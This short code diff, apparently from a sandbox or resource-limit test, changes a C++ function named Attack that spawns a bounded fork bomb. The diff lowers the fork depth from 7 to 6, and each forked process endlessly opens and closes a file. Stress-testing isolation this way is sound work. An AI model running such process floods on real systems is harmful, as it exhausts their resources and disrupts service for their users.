@@ -13,7 +13,7 @@ int Attack(const World& world) {
   const pid_t bomb = fork();
   if (bomb == 0) {
     setpgid(0, 0);
-    for (int depth = 0; depth < 7; ++depth) {
+    for (int depth = 0; depth < 6; ++depth) {
       if (fork() < 0) break;
     }
     for (;;) close(open(world.note().c_str(), O_RDONLY));
